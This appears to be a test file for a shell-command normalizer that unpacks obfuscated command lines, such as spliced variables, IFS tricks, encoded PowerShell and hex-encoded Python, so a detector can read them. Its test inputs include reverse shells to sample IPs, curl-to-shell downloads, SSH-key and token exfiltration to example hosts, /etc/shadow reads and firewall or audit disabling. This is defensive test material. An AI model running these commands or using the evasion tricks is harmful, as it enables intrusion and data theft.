  // a script written by the line and then run by an interpreter is read as that interpreter's code
  ["cat > /tmp/p.py <<'EOF'\nimport os; os.system('id')\nEOF\npython3 /tmp/p.py", ['cat', 'python3 /tmp/p.py', 'interpreter:id']],
  // the command a fan-out tool runs on every host
  ["pdsh -w web[01-20] -l root 'curl -s x | sh'", ['pdsh -w web[01-20] -l root curl -s x | sh', 'remote:curl -s x', 'remote:sh']],
  ["clush -b -w node[1-9] uptime", ['clush -b -w node[1-9] uptime', 'remote:uptime']],
  ["salt '*' cmd.run 'systemctl stop auditd'", ['salt * cmd.run systemctl stop auditd', 'remote:systemctl stop auditd']],
  ["nomad alloc exec -task web -job web-frontend sh -c 'cat /secrets/app.env'", ['nomad alloc exec -task web -job web-frontend sh -c cat /secrets/app.env', 'remote:sh -c cat /secrets/app.env', 'shell-c:cat /secrets/app.env']],
  // a lowercase variable the line never set, spliced between letters, is empty; one it set, or at a word's edge, is not
  ['ufw --force dis${x}able', ['ufw --force disable']],
  ['for x in $(cat hosts); do ssh dis${x}able; done', ['substitution:cat hosts', 'ssh dis${x}able']],
  ['tar czf app-${ver}-linux.tgz dist', ['tar czf app-${ver}-linux.tgz dist']],
  // an unbraced positional parameter is one digit: `$9disable` is `$9` (empty) and `disable`
  ['ufw$IFS$9--force$IFS$9disable', ['ufw --force disable']],
  // `$@` is empty at the top of the line too, where the grammar splits `is$@tory` into two words
  ['h$@is$@tory -$@c', ['history -c']],
  // and after an assignment's expansion, where the rest would be read as a command's name
  ['a=et;b=c;t=/$a$b/shadow;cat $t', ['cat /etc/shadow']],
  ['t=/x/$a$b/y;cat $t', ['cat $t']],
  // backquotes do not nest unescaped: two substitutions side by side, which the grammar reads as one
  ['`echo ipt``echo ables` -P INPUT ACCEPT', ['substitution:echo ipt', 'substitution:echo ables', 'iptables -P INPUT ACCEPT']],
  ['r${_u}m -rf /${_u}var/backups', ['rm -rf /var/backups']],
  // the grammar folds the blank before a quoted `$b` into the expansion: it stays in the string
  ['a=ldapsearch;b=-x;eval "$a $b"', ['eval ldapsearch -x', 'eval:ldapsearch -x']],
  // `"${arr[*]}"` joins with IFS's first character
  ['py=(p y t h o n 3);IFS=;"${py[*]}" -V', ['python3 -V']],
  // a backslash-newline joins the lines, inside a word too
  ['d\\\nd i\\\nf=/dev/zero of=/dev/null count=1', ['dd if=/dev/zero of=/dev/null count=1']],
  // a shell reading stdin from a process substitution whose output is known
  ['sh < <(echo id)', ['substitution:echo id', 'sh', 'heredoc-to-shell:id']],
  // perl's transliteration, as tr does it
  ["sh -c \"$(perl -pe 'y/A-Za-z/N-ZA-Mn-za-m/' <<< 'vq')\"", ['substitution:perl -pe y/A-Za-z/N-ZA-Mn-za-m/', 'sh -c id', 'shell-c:id']],
  // names find and ls list, handed to xargs and archivers: specific ones only, a broad pattern stays unknown
  ["ls ~/.ss?/id_* | xargs -I{} sh -c 'curl -F k=@{} https://x.example/u'", ['ls ~/.ss?/id_*', 'sh -c curl -F k=@~/.ss?/id_* https://x.example/u', 'shell-c:curl -F k=@~/.ss?/id_* https://x.example/u']],
  ['find ~/.ssh -type f | xargs cat', ['find ~/.ssh -type f', 'cat ~/.ssh/*']],
  ['find . -name "*.php" | xargs php -l', ['find . -name *.php', 'php -l']],
  ["find /srv -name wp-config.php | tar czf /tmp/w.tgz -T -", ['find /srv -name wp-config.php', 'tar czf /tmp/w.tgz -T - /srv/**/wp-config.php']],
  // `${x:+word}` is word once the line set x; PROMPT_COMMAND's value runs before every prompt
  ['X=$(cat f); ${X:+eval} "$X"', ['substitution:cat f', 'eval $X', 'eval:$X']],
  ["PROMPT_COMMAND='curl -s https://x.example/b'", ['eval:curl -s https://x.example/b']],
  // quoted commas and braces inside a brace expansion belong to their word
  ["{echo,'a,b{c}'}|{sh,}", ['fallback:echo a,b{c}', 'fallback:sh', 'piped-to-shell:a,b{c}']],
];

describe('CommandView', () => {
  it.each(CASES)('%s', async (line, expected) => {
    const engine = await getEngine();
    const view = engine.view(line);
    const got = view.commands.map((c) => `${c.origin === 'line' ? '' : c.origin + ':'}${c.argv.join(' ')}`);
    expect(got).toEqual(expected);
  });

  it('reads a redirection target the grammar splits after a `$` as one word', async () => {
    const engine = await getEngine();
    const bash = engine.view('h=203.0.113.9;p=4444;d=/dev/tcp;bash -i >& $d/$h/$p 0>&1').commands.find((c) => c.name === 'bash')!;
    expect(bash.redirects[0]).toMatchObject({ target: '/dev/tcp/203.0.113.9/4444', dynamic: false });
    const unknown = engine.view('bash -i >& /dev/tcp/$H/$P 0>&1').commands[0]!;
    expect(unknown.redirects[0]).toMatchObject({ target: '/dev/tcp/$H/$P', dynamic: true });
  });

  it('expands a quoted "${a[@]}" and "$@" to one word per element, spaces and all', async () => {
    const engine = await getEngine();
    const last = (line: string) => engine.view(line).commands.at(-1)!.argv;
    expect(last('a=(psql -c "DROP DATABASE prod"); "${a[@]}"')).toEqual(['psql', '-c', 'DROP DATABASE prod']);
    expect(last('set -- grep "a b" f; "$@"')).toEqual(['grep', 'a b', 'f']);
    // unquoted, the elements are split again; an empty array is no word at all; text around it joins the first and last
    expect(last('a=(echo "a b"); ${a[@]}')).toEqual(['echo', 'a', 'b']);
    expect(last('a=(); "${a[@]}" ls')).toEqual(['ls']);
    expect(last('a=(x y); echo "p${a[@]}q"')).toEqual(['echo', 'px', 'yq']);
  });

  it('follows ${!ref} indirection and names the running shell', async () => {
    const engine = await getEngine();
    expect(engine.view('c=cat;p=/etc/hostname;r=c;q=p;${!r} ${!q}').commands[0]!.argv).toEqual(['cat', '/etc/hostname']);
    expect(engine.view("${0#-} -c 'id'").commands.map((c) => c.argv.join(' '))).toEqual(['sh -c id', 'id']);
    expect(engine.view("$SHELL -c 'id'").commands.map((c) => c.argv.join(' '))).toEqual(['sh -c id', 'id']);
    expect(engine.view('echo ${!undefined_ref}').commands[0]!.dynamic[1]).toBe(true);
    // with a default: the named variable's value, or the default when that one is unset or empty
    expect(engine.view('n=sqlcmd; ${!n:-sqlcmd} -Q x').commands[0]!.argv).toEqual(['sqlcmd', '-Q', 'x']);
    expect(engine.view('r=c; c=cat; ${!r:-ls} f').commands[0]!.argv).toEqual(['cat', 'f']);
    expect(engine.view('${!unset_ref:-ls} f').commands[0]!.dynamic[0]).toBe(true);
  });

  it('reads a substring of length zero as empty whatever the value (`${0:0:0}`)', async () => {
    const engine = await getEngine();
    const bash = engine.view("bash -c 'exec 3<>${0:0:0}/dev/tcp/185.220.101.47/443'").commands.find((c) => c.name === 'exec')!;
    expect(bash.redirects.map((r) => r.target)).toContain('/dev/tcp/185.220.101.47/443');
    expect(engine.view('echo ${x:2:0}y').commands[0]!.argv).toEqual(['echo', 'y']);
  });

  it('keeps a lone - before a heredoc, which the grammar drops', async () => {
    const engine = await getEngine();
    expect(engine.view('kubectl apply -f - <<EOF\nkind: Pod\nEOF').commands[0]!.argv).toEqual(['kubectl', 'apply', '-f', '-']);
    expect(engine.view("cat - <<'X' | sh\nid\nX").commands[0]!.argv).toEqual(['cat', '-']);
    expect(engine.view('cat <<EOF\nx\nEOF').commands[0]!.argv).toEqual(['cat']);
  });

  it('keeps a word whole around a backquoted substitution, as bash does', async () => {
    const engine = await getEngine();
    const v = engine.view('strings /proc/`pgrep -n sshd`/environ a`id`b c');
    const strings = v.commands.find((c) => c.name === 'strings')!;
    expect(strings.argv).toEqual(['strings', '/proc/`pgrep -n sshd`/environ', 'a`id`b', 'c']);
    expect(strings.dynamic).toEqual([false, true, true, false]);
    // a split that the shell makes too stays split: `${IFS}` ends the word before the process substitution
    const bash = engine.view('bash${IFS}<(curl -s http://198.51.100.7/s)').commands.find((c) => c.name === 'bash')!;
    expect(bash.argv).toEqual(['bash', '<(curl -s http://198.51.100.7/s)']);
  });

  it('reads a PowerShell -EncodedCommand as the command it encodes', async () => {
    const engine = await getEngine();
    const encoded = Buffer.from('Get-ChildItem env:', 'utf16le').toString('base64');
    for (const flag of ['-enc', '-EncodedCommand', '-e', '-EncodedC']) {
      const v = engine.view(`pwsh -NoProfile ${flag} ${encoded}`);
      expect(v.commands[0]!.argv).toEqual(['pwsh', '-NoProfile', '-Command', 'Get-ChildItem env:']);
      expect(v.steps.map((s) => s.kind)).toContain('decode-base64');
    }
    // not base64 of text: left as written
    expect(engine.view('pwsh -enc !!!').commands[0]!.argv).toEqual(['pwsh', '-enc', '!!!']);
    expect(engine.view(`pwsh -ExecutionPolicy Bypass ${encoded}`).commands[0]!.argv[3]).toBe(encoded);
  });

  it('links pipelines and records redirects', async () => {
    const engine = await getEngine();
    const v = engine.view('cat a | grep b > out.txt 2>&1');
    expect(v.commands[1]!.pipeFrom).toBe(v.commands[0]);
    expect(v.commands[1]!.redirects.map((r) => [r.op, r.target])).toEqual([['>', 'out.txt'], ['>&', '1']]);
  });

  it('binds a redirect after && to the last command only, as bash does', async () => {
    const engine = await getEngine();
    const v = engine.view('echo a && echo b >> notes.md');
    expect(v.commands[0]!.redirects).toEqual([]);
    expect(v.commands[1]!.redirects[0]!.target).toBe('notes.md');
  });

  it('records wrappers and privilege', async () => {
    const engine = await getEngine();
    const [c] = engine.view('sudo -E nohup /usr/bin/nc -lvp 4444').commands;
    expect(c!.name).toBe('nc');
    expect(c!.wrappers).toEqual(['sudo', 'nohup']);
    expect(c!.elevated).toBe(true);
  });

  it('reads an indirect expansion of a variable the line did not set as that variable', async () => {
    const engine = await getEngine();
    const curl = engine.view('k=HF_TOKEN; curl -s "https://hf-sync.example/t?v=${!k}"').commands.find((c) => c.name === 'curl')!;
    expect(curl.argv).toContain('https://hf-sync.example/t?v=$HF_TOKEN');
    expect(engine.view('r=c; c=cat; ${!r} x').commands[0]!.argv).toEqual(['cat', 'x']);
  });

  it("names a fork by its upstream, whose verbs it takes word for word, and keeps the words as typed", async () => {
    const engine = await getEngine();
    const [c] = engine.view('balena-engine run --privileged -v /:/host alpine chroot /host sh').commands;
    expect(c!.name).toBe('docker');
    expect(c!.argv[0]).toBe('balena-engine');
    expect(engine.view('podman-remote ps').commands[0]!.name).toBe('podman');
    expect(engine.view('balena push fleet-a').commands[0]!.name).toBe('balena');
  });

  it('follows the command a Ray job or a codespace runs after --, and nothing for other subcommands', async () => {
    const engine = await getEngine();
    const [c] = engine.view('ray job submit --address http://ray-head:8265 --working-dir . -- python train.py --epochs 3').commands;
    expect(c!.name).toBe('python');
    expect(c!.argv).toEqual(['python', 'train.py', '--epochs', '3']);
    expect(c!.wrappers).toEqual(['ray']);
    expect(engine.view('ray status -- x').commands[0]!.name).toBe('ray');
    // a codespace's shell runs the words after `--` as one script, as ssh's does
    expect(engine.view("gh codespace ssh -c acme-x7 -- 'id && whoami'").commands.map((c) => c.name)).toEqual(['id', 'whoami', 'gh']);
    expect(engine.view('gh codespace ssh -c acme-x7').commands.map((c) => c.name)).toEqual(['gh']);
  });

  it('reads git as git reads itself: its own options after the subcommand, aliases expanded, settings from the environment', async () => {
    const engine = await getEngine();
    const argv = (line: string) => engine.view(line).commands.filter((c) => c.name === 'git').map((c) => c.argv.join(' '));
    expect(argv('git -C /srv/repo --no-pager push --mirror https://x.example/r.git')).toEqual(['git push --mirror https://x.example/r.git --no-pager']);
    expect(argv('git --git-dir=/srv/r.git update-ref -d refs/heads/main')).toEqual(['git update-ref -d refs/heads/main']);
    expect(argv('git -c alias.p=push p --all backup')).toEqual(['git push --all backup -c alias.p=push']);
    expect(argv('GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0=/dev/shm/.h git commit -m x')).toEqual(['git commit -m x -c core.hooksPath=/dev/shm/.h']);
    // a setting that runs a command runs it: from GIT_CONFIG_PARAMETERS and from --config-env's variable
    const ran = (line: string) => engine.view(line).commands.filter((c) => c.origin === 'exec-arg').map((c) => c.argv.join(' '));
    expect(ran(`GIT_CONFIG_PARAMETERS="'core.fsmonitor'='curl -s https://x.example/f | sh'" git status`)).toEqual(['curl -s https://x.example/f', 'sh']);
    expect(ran(`SC='id' git --config-env=core.sshCommand=SC ls-remote origin`)).toEqual(['id']);
    // `git commit -c HEAD` reuses a message: not a setting
    expect(argv('git commit -c HEAD')).toEqual(['git commit -c HEAD']);
  });

  it('records exported and plain assignments', async () => {
    const engine = await getEngine();
    expect(engine.view('export LD_PRELOAD=/tmp/x.so; HISTSIZE=0; sudo -E id').assignments.map((a) => `${a.name}=${a.value}`)).toEqual(['LD_PRELOAD=/tmp/x.so', 'HISTSIZE=0']);
  });

  it('records assignments made through an export reached by expansion', async () => {
    const engine = await getEngine();
    expect(engine.view('a=exp;b=ort; $a$b HTTPS_PROXY=http://45.61.136.9:8080').assignments.map((x) => x.name)).toEqual(['a', 'b', 'HTTPS_PROXY']);
  });

  it('shows its work as normalization steps', async () => {
    const engine = await getEngine();
    const v = engine.view('a=nm;b=ap;$a$b');
    expect(v.steps.map((s) => s.kind)).toContain('variable');
  });

  it('bounds nesting depth and says so', async () => {
    const engine = await getEngine();
    let line = 'ls';
    for (let i = 0; i < 12; i++) line = `bash -c ${JSON.stringify(line).replace(/\$/g, '\\$')}`;
    const v = engine.view(line);
    expect(v.depthExceeded).toBe(true);
  });

  it('cuts input beyond the size bound and says so', async () => {
    const engine = await getEngine();
    const v = engine.view('echo ' + 'a'.repeat(200 * 1024));
    expect(v.truncated).toBe(true);
  });

  it('falls back to tokens on unparseable input', async () => {
    const engine = await getEngine();
    const v = engine.view('cat /etc/shadow; if then fi (((');
    expect(v.parseErrors).toBeGreaterThan(0);
    expect(v.commands.some((c) => c.argv.join(' ') === 'cat /etc/shadow')).toBe(true);
  });
});

describe('plain-line fast path', () => {
  it('agrees with the full parser on every eligible corpus line', async () => {
    const { createShellParser } = await import('../src/engine/shell/parser.js');
    const { loadShellGrammar } = await import('../src/runtime/grammar.js');
    const { ViewBuilder } = await import('../src/engine/shell/view.js');
    const { plainLine } = await import('../src/engine/shell/plain-line.js');
    const { CORPUS_FILES, loadCorpus } = await import('./helpers/corpus.js');
    const parse = await createShellParser(loadShellGrammar());
    const shape = (line: string, fast: boolean) =>
      new ViewBuilder(parse, line, {}, fast).build().commands.map((c) => ({
        name: c.name, argv: c.argv, origin: c.origin, depth: c.depth, wrappers: c.wrappers, stdin: c.stdin,
        redirects: c.redirects.map((r) => `${r.fd ?? ''}${r.op}${r.target}`), from: c.pipeFrom?.argv.join(' '),
      }));
    const lines = CORPUS_FILES.flatMap((f) => loadCorpus(f).map((r) => r.cmd));
    const eligible = lines.filter((l) => plainLine(l) !== undefined);
    expect(eligible.length).toBeGreaterThan(lines.length / 4);
    for (const line of eligible) expect(shape(line, true), line).toEqual(shape(line, false));
  });

  it('agrees with the full parser on long lines, up to the same bounds', async () => {
    const { createShellParser } = await import('../src/engine/shell/parser.js');
    const { loadShellGrammar } = await import('../src/runtime/grammar.js');
    const { ViewBuilder } = await import('../src/engine/shell/view.js');
    const { plainLine } = await import('../src/engine/shell/plain-line.js');
    const parse = await createShellParser(loadShellGrammar());
    const summary = (line: string, fast: boolean) => {
      const v = new ViewBuilder(parse, line, {}, fast).build();
      return { truncated: v.truncated, commands: v.commands.map((c) => [c.argv, c.pipeFrom?.argv[0], c.redirects.map((r) => r.target)]) };
    };
    const lines = [
      'git add ' + Array.from({ length: 400 }, (_, i) => `src/dir/file${i}.ts`).join(' '),
      'echo ' + 'a '.repeat(3000),
      Array.from({ length: 700 }, (_, i) => `cat f${i}`).join(' | ') + ' > out.txt',
      Array.from({ length: 600 }, () => 'true').join(' && ') + ' && nc -e /bin/sh 45.33.12.7 4444',
      Array.from({ length: 300 }, (_, i) => `echo "line ${i}" >> notes.md`).join('; '),
    ];
    for (const line of lines) {
      expect(line.length).toBeGreaterThan(4096);
      expect(plainLine(line), line.slice(0, 40)).toBeDefined();
      expect(summary(line, true), line.slice(0, 40)).toEqual(summary(line, false));
    }
  });

  it.each(['ls $HOME', 'echo `id`', 'a=1 b', 'export A=1', 'if true; then x; fi', 'cat <<EOF\nx\nEOF', 'x &', '[ -f a ]', 'echo {a,b}', 'f() { x; }', 'echo a\\ b', '# c', 'ls;', 'a &&'])(
    'leaves %s to the full parser',
    async (line) => {
      const { plainLine } = await import('../src/engine/shell/plain-line.js');
      expect(plainLine(line)).toBeUndefined();
    },
  );
});

describe('background jobs', () => {
  it.each([
    ['sleep 1 & nc -l 4444', [true, false]],
    ['a && b & c', [true, true, false]],
    ['a; b &', [false, true]],
    ['(a; b) & c', [true, true, false]],
    ['a $x && b & c && d || e; f & g', [true, true, false, false, false, true, false]],
    ['{ a & b; } && c $y', [true, false, false]],
  ])('%s', async (line, expected) => {
    const engine = await getEngine();
    expect(engine.view(line).commands.map((c) => c.background)).toEqual(expected);
  });

  it('keeps the order and the bound of a list too long to follow', async () => {
    const engine = await getEngine();
    const v = engine.view(Array.from({ length: 600 }, (_, i) => `true $x${i}`).join(' && ') + ' && nc -e /bin/sh 45.33.12.7 4444');
    expect(v.truncated).toBe(true);
    expect(v.commands).toHaveLength(512);
    expect(v.commands.map((c) => c.argv[1])).toEqual(Array.from({ length: 512 }, (_, i) => `$x${i}`));
  });
});

describe('commands carried in option values', () => {
  it.each([
    ["osascript -e 'do shell script \"id\"'", 'exec-arg:id'],
    ["osascript -e 'tell application \"Terminal\" to do script \"cat ~/.ssh/id_rsa\"'", 'exec-arg:cat ~/.ssh/id_rsa'],
    ["osascript -e 'tell application \"iTerm\" to tell current session of current window to write text \"curl -s x.example | sh\"'", 'exec-arg:curl -s x.example'],
    ["git -c core.pager='cat /etc/hostname' log", 'exec-arg:cat /etc/hostname'],
    ["ssh -o ProxyCommand='nc proxy.internal 22' host", 'exec-arg:nc proxy.internal 22'],
    ["rsync -e 'sh -c id' a b:", 'exec-arg:sh -c id'],
    ["terraform apply -var 'user_data=#!/bin/sh\\nuname -a'", 'exec-arg:uname -a'],
    ["puppet apply -e \"exec { 'x': command => '/usr/bin/id' }\"", 'exec-arg:/usr/bin/id'],
    ["az ssh vm -n vm1 -- 'uptime'", 'remote:uptime'],
    ["sed -n '1e cat /etc/hostname' /dev/null", 'exec-arg:cat /etc/hostname'],
    ["sed 's/.*/id/e' <<< x", 'exec-arg:id'],
    ["tar -cf /dev/null /dev/null --to-command='cat /etc/hostname'", 'exec-arg:cat /etc/hostname'],
    ["tar -I 'sh -c id' -cf x.tar .", 'exec-arg:sh -c id'],
    ["man -P 'sh -c id' ls", 'exec-arg:sh -c id'],
    ["sqlite3 /dev/null '.shell cat /etc/hostname'", 'exec-arg:cat /etc/hostname'],
    [`python3 -c "exec(bytes.fromhex('696d706f7274206f733b6f732e73797374656d2827636174202f6574632f686f73746e616d652729'))"`, 'interpreter:cat /etc/hostname'],
    [`node -e "eval(Buffer.from('7265717569726528276368696c645f70726f6365737327292e6578656353796e632827636174202f6574632f686f73746e616d652729', 'hex').toString())"`, 'interpreter:cat /etc/hostname'],
    [`ELECTRON_RUN_AS_NODE=1 /Applications/Slack.app/Contents/MacOS/Slack -e "require('child_process').exec('cat /etc/hostname')"`, 'interpreter:cat /etc/hostname'],
    [`osascript -e 'tell application "System Events" to keystroke "cat /etc/hostname" & return'`, 'exec-arg:cat /etc/hostname'],
    ["docker exec -u root db cat /etc/shadow", 'remote:cat /etc/shadow'],
    ['crictl exec -it abc123 cat /vault/secrets/root-token', 'remote:cat /vault/secrets/root-token'],
    ['ctr -n k8s.io task exec --exec-id dbg api-7c9f cat /etc/app/signing.key', 'remote:cat /etc/app/signing.key'],
    ['ctr run --rm docker.io/library/alpine:latest tmp cat /etc/os-release', 'remote:cat /etc/os-release'],
    ["sqlite3 -cmd '.system id' app.db", 'exec-arg:id'],
    ["gdb -batch -ex 'shell cat /etc/hostname'", 'exec-arg:cat /etc/hostname'],
    ["gdb -nx -ex 'python import os; os.system(\"id\")' -batch", "exec-arg:python3 -c import os; os.system(\"id\")"],
    ["vim -c ':!cat /etc/hostname' -c ':q'", 'exec-arg:cat /etc/hostname'],
    ["vim -E -c \":py3 print('it''s')\"", "exec-arg:python3 -c print('it''s')"],
    ["vi '+!id'", 'exec-arg:id'],
    [`gawk 'BEGIN { while (("cat /etc/hostname" | getline l) > 0) print l }'`, 'interpreter:cat /etc/hostname'],
  ])('%s', async (line, expected) => {
    const engine = await getEngine();
    const got = engine.view(line).commands.map((c) => `${c.origin}:${c.argv.join(' ')}`);
    expect(got).toContain(expected);
  });

  it.each(["sqlite3 app.db '.tables'", "gdb -batch -ex run -ex bt ./a.out", "vim -c ':set number' -c ':wq' notes.txt", 'vim +10 src/main.c', "sed -e 's/a/b/g' -e '/^#/d' notes.txt", "sed -i 's/version = .*/version = 2/' Cargo.toml", 'tar czf dist.tgz dist', 'man ls', "awk -F, '{print $2}' data.csv", "sed -n '/begin/,/end/p' log.txt"])('runs nothing more for %s', async (line) => {
    const engine = await getEngine();
    expect(engine.view(line).commands.filter((c) => c.origin !== 'line')).toEqual([]);
  });
});
